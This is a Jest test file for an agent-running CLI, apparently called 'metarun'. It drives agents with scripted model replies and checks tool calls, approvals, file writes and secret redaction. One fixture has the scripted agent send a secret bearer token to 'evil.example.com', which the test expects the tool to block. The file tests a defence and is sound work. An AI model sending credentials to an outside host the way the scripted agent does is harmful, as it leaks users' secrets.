/** Tests an agent's folder without a server. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { CaseFolder, parseTests } from '../support/case-folder.js';
import { runCli, startOnTerminal } from '../support/cli.js';
import { serve } from '../support/local-server.js';
import { scriptedModel, type ScriptedModel, serialiseMessages } from '../support/scripted-model.js';

const TRIAGE = `---
goal: Sort the messages below /messages.
tools: [files.list, files.read, files.write, "task:count", ask_person]
approve: [files.write]
---
Write the list to /triage.md.
`;
const CODER = '---\ngoal: Add one.\ntools: [code.run]\n---\nUse code.\n';
const WITHOUT_END = '---\ngoal: Wait.\ntools: [event.wait, sleep]\n---\nWait for it.\n';

const CASES = `
- name: sorts
  files: { /messages/a.txt: "The shop is down." }
  model:
    - { text: I look first., calls: [{ name: files.list, input: { path: /messages } }, { name: files.read, input: { path: /messages/a.txt } }] }
    - calls: [{ name: "task:count", input: { text: down } }]
    - calls: [{ name: files.write, input: { path: /triage.md, content: today } }]
    - calls: [{ name: submit_result, input: { messages: 1 } }]
  stubs: { children: { count: { result: 4 } } }
  approvals: [approve]
  expect:
    result: { messages: 1 }
    calls:
      - files.list
      - { name: files.read, input: { path: /messages/a.txt }, status: success, answer: { equals: The shop is down. } }
      - { name: "task:count", answer: "4" }
      - files.write
    children: [{ task: count, params: { text: down } }]
    files: { /triage.md: today }
- name: a person changes what is written
  model:
    - calls: [{ name: files.write, input: { path: /triage.md, content: today } }]
    - object: { messages: 0 }
  approvals: [{ decision: approve, prompt: "Run files.write?", payload: { path: /triage.md, content: later } }]
  expect: { files: { /triage.md: later } }
- name: the real child
  stubs: { children: { count: real } }
  model:
    - calls: [{ name: "task:count", input: { text: ab } }]
    - object: { messages: 2 }
  expect: { calls: [{ answer: "2" }], result: { messages: 2 } }
- name: what the model gets wrong
  model:
    - calls: [{ name: files.wipe }, { name: files.read, input: { pth: /a } }]
    - object: { messages: many }
    - error: overloaded
  expect:
    error: { code: model_error, message: overloaded }
    calls: [{ status: failed, answer: There is no tool }, { status: failed, answer: do not match the schema }]
- name: asks a person
  model:
    - calls: [{ name: ask_person, input: { question: Which desk? } }]
    - object: { messages: 0 }
  approvals: [{ decision: approve, prompt: Which desk?, payload: { answer: north } }]
  expect: { calls: [{ name: ask_person, answer: north }] }
`;
const FAILS = `
- name: no answer left
  model: [{ calls: [{ name: files.list }] }]
- name: no stub
  model:
    - calls: [{ name: "task:count", input: { text: a } }]
    - object: { messages: 0 }
- name: other calls
  model:
    - calls: [{ name: files.list }]
    - object: { messages: 0 }
    - object: { messages: 0 }
  expect: { calls: [{ name: files.list, status: failed, answer: nothing }] }
- name: no decision
  model: [{ calls: [{ name: files.write, input: { path: /a, content: b } }] }]
`;
const SCHEMA =
  'result_schema: { type: object, required: [messages], properties: { messages: { type: integer } } }\n';

let folder: CaseFolder;
beforeAll(() => {
  folder = new CaseFolder();
  folder.write({
    'triage/metatask.yaml': `name: Triage\nexecution_mode: agent\n${SCHEMA}`,
    'triage/agent.md': TRIAGE,
    'triage/cases/holds.yaml': CASES,
    'triage/cases/fails.yaml': FAILS,
    'count/metatask.yaml': 'name: Count\nlanguage: typescript\n',
    'count/workflow.ts':
      'export default function run({ text }: { text: string }) { return text.length; }\n',
    'coder/metatask.yaml': 'name: Coder\nexecution_mode: agent\n',
    'coder/agent.md': CODER,
    'coder/cases/code.yaml': `model:
  - calls: [{ name: code.run, input: { code: "def run(params, reporter):\\n    return params + 1\\n", params: 4 } }]
  - five
expect: { result: five, calls: [{ name: code.run, answer: '"result":5' }] }
`,
    'mail/metatask.yaml':
      'name: Mail\nexecution_mode: agent\nnetwork: restricted\nallowed_hosts: [api.example.com, evil.example.com]\n',
    'mail/agent.md': '---\ngoal: Mail.\ntools: [http.request]\n---\nMail.\n',
    'mail/cases/secret.yaml': `
secrets: { KEY: { value: sk-invented, hosts: [api.example.com] } }
stubs:
  http:
    - { url: "https://api.example.com/", request: { headers: { authorization: "Bearer sk-invented" } }, text: "got sk-invented" }
model:
  - calls:
      - { name: http.request, input: { url: "https://api.example.com/", headers: { authorization: "Bearer {{secret:KEY}}" } } }
      - { name: http.request, input: { url: "https://evil.example.com/", headers: { authorization: "Bearer {{secret:KEY}}" } } }
  - done
expect:
  result: done
  calls: [{ status: success, answer: "got [redacted]" }, { status: failed, answer: may not be sent to this host }]
`,
    'knows/metatask.yaml': 'name: Knows\nexecution_mode: agent\n',
    'knows/agent.md':
      '---\ngoal: Look.\ntools: [files.read, files.write]\nknowledge: [handbook]\n---\nLook.\n',
    'knows/knowledge/handbook/desk.md': 'The desk is north.',
    'knows/cases/knows.yaml': `model:
  - calls:
      - { name: files.read, input: { path: /desk.md, workspace: handbook } }
      - { name: files.write, input: { path: /desk.md, content: south, workspace: handbook } }
  - north
expect:
  result: north
  calls: [{ status: success, answer: The desk is north. }, { status: failed }]
  files: { /desk.md: { absent: true } }
`,
    'waits/metatask.yaml': 'name: Waits\nexecution_mode: agent\n',
    'waits/agent.md': WITHOUT_END,
    'waits/cases/waits.yaml': `
- name: gets what is sent, and sleeps no day
  events: [{ name: paid, payload: { by: Ada } }]
  model:
    - calls: [{ name: sleep, input: { seconds: 86400 } }, { name: event.wait, input: { name: paid } }]
    - done
  expect: { calls: [sleep, { name: event.wait, answer: Ada }], result: done }
`,
    'waits/test_waits.py': `import unittest
from metarun.testing import run_task

class Waits(unittest.TestCase):
    def test_ends(self):
        outcome = run_task(model=[{"calls": [{"name": "sleep", "input": {"seconds": 3600}}]}, "done"])
        self.assertEqual([call["name"] for call in outcome.calls], ["sleep"])
        self.assertEqual(outcome.result, "done")
`,
  });
});
afterAll(() => folder.remove());

describe('metarun test of an agent', () => {
  it('metarun test runs the cases of an agent with a scripted model only', async () => {
    const answer = await folder.run(
      'triage/cases/holds.yaml',
      'coder',
      'mail',
      'knows',
      'waits',
      '--json',
    );
    const wrong = [...parseTests(answer).values()].filter(({ status }) => status === 'failed');
    expect(wrong).toEqual([]);
    expect(JSON.parse(answer.stdout)).toMatchObject({ ok: true, passed: 10 });
  });

  it('a failing case of an agent reports what is missing and what to add', async () => {
    const answer = await folder.run('triage/cases/fails.yaml', '--json');
    const tests = parseTests(answer);
    const said = (name: string): string =>
      tests
        .get(name)
        ?.failures.map(({ message }) => message)
        .join('\n') ?? '';
    expect(said('no answer left')).toContain('the agent asked a model');
    expect(said('no answer left')).toContain('which is request 2; add to model:\n  - text: …');
    expect(said('no stub')).toContain(
      'the agent ran the child task "count" with the params {"text":"a"}, which no stub answers',
    );
    expect(said('other calls')).toContain('status is "success", not "failed"');
    expect(said('other calls')).toContain('the answer of "files.list" does not contain');
    expect(said('other calls')).toContain('2 of 3 answers of the model were asked for');
    expect(said('no decision')).toContain('the agent asked "Run files.write?"');
  });
});

describe('metarun run of an agent', () => {
  let model: ScriptedModel;
  beforeAll(async () => {
    model = await scriptedModel((request, turn) => {
      if (turn === 0)
        return [
          ['files_write', { path: '/triage.md', content: 'today' }],
          ['task_count', { text: 'abc' }],
        ];
      return serialiseMessages(request).includes('rejected')
        ? '{"messages": 0}'
        : '{"messages": 1}';
    });
  });
  afterAll(() => model.stop());

  const env = (): Record<string, string> => ({
    METARUN_MODEL_PROVIDERS: model.env['METARUN_MODEL_PROVIDERS'] ?? '',
  });

  it('metarun run asks the model of --model, shows each tool call, and saves the written files', async () => {
    const cwd = folder.path;
    const args = ['run', 'triage', '--model', 'test/m', '--approve', 'yes'];
    const { code, stdout, stderr } = await runCli(args, { cwd, env: env() });
    expect(stderr).toContain('tool "files.write"');
    expect(stderr).toContain('file /triage.md');
    // The model's text is printed while it arrives.
    expect(stderr).toContain('  {"messages": 1}\n');
    expect(stderr).toMatch(/ {2}test\/m, 2 requests, 2 tool calls, 200 tokens sent, 20 answered\n/);
    expect([code, JSON.parse(stdout)]).toEqual([0, { messages: 1 }]);
    const home = join(cwd, '.metarun/workspace/triage.md');
    expect(readFileSync(home, 'utf8')).toBe('today');
    // The child ran and the model got its result.
    expect(serialiseMessages(model.requests.at(-1) ?? { messages: [] })).toContain('\\n3\\n');
  });

  it('a person on the terminal can change a proposed call before it runs', async () => {
    const args = ['run', 'triage', '--model', 'test/m'];
    const run = startOnTerminal(args, 80, { cwd: folder.path, env: env() });
    await run.says('reject');
    expect(run.output.stdout).toContain('"content": "today"');
    run.process.stdin.write('\u001B[B\r');
    await run.says('Path of a file');
    run.process.stdin.write('\r');
    await run.says(/Path of a file[^]*content/);
    run.process.stdin.write(' not\r');
    expect((await run.ended).code).toBe(0);
    const home = join(folder.path, '.metarun/workspace/triage.md');
    expect(readFileSync(home, 'utf8')).toBe('today not');
  });

  it('an agent reads its knowledge from a folder, and a missing folder is reported', async () => {
    const reader = await scriptedModel((request, turn) =>
      turn === 0
        ? [['files_read', { path: '/desk.md', workspace: 'handbook' }]]
        : serialiseMessages(request),
    );
    folder.write({
      'book/desk.md': 'The desk is south.',
      'unread/metatask.yaml': 'name: Unread\nexecution_mode: agent\n',
      'unread/agent.md':
        '---\ngoal: Look.\ntools: [files.read]\nknowledge: [handbook]\n---\nLook.\n',
    });
    const options = { cwd: folder.path, env: reader.env };
    const [own, given, none, wrong] = await Promise.all([
      runCli(['run', 'knows'], options),
      runCli(['run', 'knows', '--knowledge', 'handbook=book'], options),
      runCli(['run', 'unread'], options),
      runCli(['run', 'unread', '--knowledge', 'book'], options),
    ]);
    await reader.stop();
    expect(own.stdout).toContain('The desk is north.');
    expect(given.stdout).toContain('The desk is south.');
    expect(none.stderr).toMatch(
      /unread reads the workspace "handbook"[^]*unread\/knowledge\/handbook[^]*--knowledge/,
    );
    expect(wrong.stderr).toContain("Write --knowledge 'name=folder'");
    expect([own.code, given.code, none.code, wrong.code]).toEqual([0, 0, 1, 2]);
    expect(readFileSync(join(folder.path, 'book/desk.md'), 'utf8')).toBe('The desk is south.');
  });

  it('a secret is sent only to the hosts of --secret-hosts', async () => {
    const sent: string[] = [];
    const web = await serve((request, response) => {
      sent.push(request.headers.authorization ?? '');
      response.end(`you said ${request.headers.authorization}`);
    });
    const { port } = web;
    const url = `${web.url}/`;
    const mailer = await scriptedModel((request, turn) =>
      turn === 0
        ? [['http_request', { url, headers: { authorization: 'Bearer {{secret:KEY}}' } }]]
        : serialiseMessages(request),
    );
    folder.write({
      'calls/metatask.yaml': `name: Calls\nexecution_mode: agent\nnetwork: restricted\nallowed_hosts: ["127.0.0.1:${port}"]\n`,
      'calls/agent.md': '---\ngoal: Call.\ntools: [http.request]\n---\nCall.\n',
    });
    const options = {
      cwd: folder.path,
      env: { ...mailer.env, METARUN_NETWORK_RANGES: '127.0.0.1/32' },
    };
    const args = ['run', 'calls', '--secret', 'KEY=sk-invented'];
    const hosts = `a.example.com,127.0.0.1:${port}`;
    const listed = await runCli([...args, '--secret-hosts', hosts], options);
    expect(listed.stdout).toContain('you said Bearer [redacted]');
    expect(sent).toEqual(['Bearer sk-invented']);
    const refused = await runCli(args, options);
    expect(refused.stdout).toContain('may not be sent to this host');
    expect(sent).toHaveLength(1);
    expect(listed.stdout + refused.stdout).not.toContain('sk-invented');
    await web.close();
    await mailer.stop();
  });

  it('a call that a person approves on the terminal runs as proposed', async () => {
    const args = ['run', 'triage', '--model', 'test/m', '--workspace', 'proposed'];
    const run = startOnTerminal(args, 80, { cwd: folder.path, env: env() });
    await run.says('reject');
    run.process.stdin.write('\r');
    expect((await run.ended).code).toBe(0);
    expect(readFileSync(join(folder.path, 'proposed/triage.md'), 'utf8')).toBe('today');
  });

  it('a missing model, a bound agent and a circular tool are refused with an explanation', async () => {
    folder.write({
      'bound/metatask.yaml': 'name: Bound\nexecution_mode: agent\nagent: support\n',
      'bound/agent.md': CODER,
      'loop/metatask.yaml': 'name: Loop\nexecution_mode: agent\n',
      'loop/agent.md': '---\ngoal: Go.\ntools: ["task:loop"]\n---\nGo.\n',
    });
    const cwd = folder.path;
    const [none, bound, loop] = await Promise.all(
      ['coder', 'bound', 'loop'].map((name) => runCli(['run', name], { cwd })),
    );
    expect(none?.stderr).toContain('Give --model provider/name');
    expect(bound?.stderr).toContain('is bound to the agent "support"');
    expect(loop?.stderr).toContain('loop → loop');
    expect([none?.code, bound?.code, loop?.code]).toEqual([1, 1, 1]);
  });
});
